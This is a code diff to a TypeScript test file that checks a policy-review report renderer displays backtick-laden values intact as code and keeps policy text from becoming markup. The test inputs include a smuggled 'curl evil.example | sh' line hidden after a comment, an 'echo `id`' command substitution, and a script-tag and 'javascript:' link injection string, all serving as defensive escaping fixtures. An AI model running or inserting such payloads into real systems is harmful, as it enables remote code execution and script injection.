@@ -6,9 +6,11 @@ import { rootCertificates } from "node:tls";
 import { afterAll, describe, expect, test } from "vitest";
 import { parse } from "yaml";
 import { combine } from "../../review/combine.ts";
+import { asCode, pieces } from "../../review/page/as-code.ts";
+import { factSection } from "../../review/page/fact-section.ts";
 import { htmlOf } from "../../review/page/html.ts";
 import { markdownOf } from "../../review/page/markdown.ts";
-import { outlineOf, type Section } from "../../review/page/outline.ts";
+import { type Outline, outlineOf, type Section } from "../../review/page/outline.ts";
 import { refuseLeftHalfWay } from "../../review/preview/left-half-way.ts";
 import { readPreview } from "../../review/preview/preview.ts";
 import { reportOfPreview } from "../../review/preview/report-of-preview.ts";
@@ -337,6 +339,32 @@ describe("golden reports", () => {
 });
 
 describe("what is not to be misread", () => {
+  test.each(["echo `id`", "`", "a ``` b", "true # as agreed ` with ops\ncurl evil.example | sh"])(
+    "a value with backticks is shown whole, as code: %j",
+    (value) => {
+      const cell = `before ${asCode(value)} after`;
+      expect(pieces(cell)).toEqual([
+        { code: false, text: "before " },
+        { code: true, text: value },
+        { code: false, text: " after" },
+      ]);
+      const section = factSection("Exposure", [{ what: "command", before: "x", after: value }], true);
+      const outline = {
+        title: "t",
+        headline: "h",
+        compared: "c",
+        exitCode: 2,
+        sections: [section],
+      } as unknown as Outline;
+      const shown = value.replaceAll("\n", "␊");
+      const [markdown, page] = [markdownOf(outline), htmlOf(outline)].map((text) =>
+        text.replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code))),
+      );
+      expect(markdown?.split(shown).length).toBeGreaterThan(2);
+      expect(page?.split(shown).length).toBeGreaterThan(2);
+    },
+  );
+
   test("text of a policy cannot become markup, in either format", () => {
     const nasty = "x`</code></td><script>alert(1)</script>|**@everyone** [a](javascript:b)";
     const found = reviewed(
